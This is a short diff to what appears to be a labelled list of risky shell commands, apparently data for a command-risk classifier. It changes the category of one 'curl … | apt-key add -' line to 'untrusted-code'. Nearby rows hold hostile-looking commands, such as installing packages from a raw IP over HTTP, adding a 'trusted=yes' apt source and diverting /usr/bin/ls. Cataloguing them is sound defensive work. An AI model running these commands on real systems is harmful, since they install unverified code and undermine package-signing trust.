@@ -84,7 +84,7 @@ shared-resources               | dpkg-divert --add --rename --divert /usr/bin/ls
 untrusted-integration          | dpkg -i /tmp/x.deb
 untrusted-integration          | rpm -ivh http://203.0.113.9/x.rpm
 tls-auth-weakening             | apt-key add /tmp/key.gpg
-tls-auth-weakening             | curl -fsSL http://x.example.net/key | apt-key add -
+untrusted-code                 | curl -fsSL http://x.example.net/key | apt-key add -
 shared-resources               | echo 'deb [trusted=yes] http://203.0.113.9/ ./' > /etc/apt/sources.list.d/x.list
 untrusted-integration          | pip install --index-url http://203.0.113.9/simple x
 untrusted-integration          | npm install --registry http://203.0.113.9 x
